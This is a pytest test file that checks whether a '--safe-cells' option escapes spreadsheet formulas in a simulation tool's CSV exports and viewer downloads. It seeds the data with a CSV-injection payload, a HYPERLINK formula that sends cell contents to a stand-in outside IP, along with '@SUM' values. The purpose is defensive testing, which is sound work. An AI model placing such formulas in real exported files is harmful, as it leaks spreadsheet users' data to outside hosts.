"""Texts that a spreadsheet would run as a formula, in every CSV file."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

from running_viewer import ask, record
from townsquare.cli import main
from townsquare.pages.view.serving import serving
from townsquare.pages.view.tables import TABLES
from townsquare.record.sqlite import SCENARIO_COPY

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run whose texts, names of persons and propositions and reasons are formulas."""
    made = record(tmp_path_factory.mktemp("runs") / "run", agents=60, steps=4)
    with closing(sqlite3.connect(made / "run.db")) as connection, connection:
        connection.execute("UPDATE ts_texts SET content = ? || content", (FORMULA,))
        connection.execute("UPDATE ts_texts SET content = '@SUM(1)' || content WHERE text % 2")
        connection.execute("UPDATE ts_agents SET name = 0 WHERE agent < 20")
        connection.execute("UPDATE ts_propositions SET name = '+' || name, text = ?", (FORMULA,))
        connection.execute("UPDATE ts_moderation_log SET reason = ?", (FORMULA,))
        connection.execute("UPDATE ts_trait_values SET answer = ?, label = '-' || label", (FORMULA,))
    return made


def formulas(text: str) -> list[str]:
    """Cells that a spreadsheet would run: what begins so and is no number."""
    cells = (cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row)
    return [cell for cell in cells if cell.startswith(STARTS) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def files(folder: Path) -> Iterator[tuple[str, str]]:
    for path in sorted(folder.glob("**/*.csv")):
        if SCENARIO_COPY not in path.parts:  # what was given is copied as it is
            yield path.name, path.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "words",
    [
        pytest.param(["analyze"], id="analyze", marks=pytest.mark.slow),
        pytest.param(["report"], id="report", marks=pytest.mark.slow),
        pytest.param(["analyze", "--only", "labels,topics,belief_change"], id="some analyses"),
        pytest.param(["export", "--to", "csv"], id="export"),
    ],
)
def test_row_19_safe_cells_holds_for_every_file(words: list[str], folder: Path, tmp_path: Path) -> None:
    command = [words[0], str(folder), *words[1:], "--out"]
    assert main([*command, str(tmp_path / "plain")]) == 0
    assert main([*command, str(tmp_path / "safe"), "--safe-cells"]) == 0
    plain, safe = dict(files(tmp_path / "plain")), dict(files(tmp_path / "safe"))
    assert plain.keys() == safe.keys()
    assert any(formulas(text) for text in plain.values()), "without the option, texts are as they were recorded"
    assert {name: texts for name, text in safe.items() if (texts := formulas(text))} == {}
    assert any("'=HYPERLINK" in text or "'@SUM" in text or "'+" in text for text in safe.values())
    for name, text in plain.items():
        if not formulas(text):
            assert safe[name] == text, "what is no formula stays as it is, negative numbers too"


def test_row_19_every_csv_of_the_viewer_is_safe(folder: Path) -> None:
    with serving(folder) as url:
        texts = {}
        for name in TABLES:
            status, body, _ = ask(url, f"/csv/{name}", run="run", agent=7, step=2, post=1)
            assert status == 200
            texts[name] = body.decode()
        texts["runs"] = ask(url, "/api/runs", **{"as": "csv"})[1].decode()
    assert {name: cells for name, text in texts.items() if (cells := formulas(text))} == {}
    assert "'=HYPERLINK" in texts["posts"] or "'@SUM" in texts["posts"]


def test_row_19_safe_cells_holds_for_graphs_and_panels(folder: Path, tmp_path: Path) -> None:
    posts = tmp_path / "posts.csv"
    posts.write_text(f'text,veracity\n"{FORMULA.replace(chr(34), 2 * chr(34))}",true\n@SUM(1),false\n')
    commands = {
        "graph": ["export-graph", str(folder), "--to", "csv", "--out", str(tmp_path / "graph" / "one.csv")],
        "panel": ["panel", str(posts), "--agents", "20", "--out", str(tmp_path / "panel")],
    }
    (tmp_path / "graph").mkdir()
    for name, command in commands.items():
        assert main([*command, "--safe-cells"]) == 0
        texts = {file: text for file, text in files(tmp_path / name) if "feeds" not in file}
        assert {file: cells for file, text in texts.items() if (cells := formulas(text))} == {}, name
        assert any("'=HYPERLINK" in text or "'@SUM" in text for text in texts.values()), name


@pytest.mark.parametrize(
    "words", [["export-graph", "--to", "gexf"], ["report"], ["analyze", "--json"], ["analyze", "--list"]], ids=" ".join
)
def test_row_19_safe_cells_without_csv_files_is_refused(
    words: list[str], folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([words[0], str(folder), *words[1:], "--safe-cells"]) == 2
    assert "--safe-cells" in capsys.readouterr().err
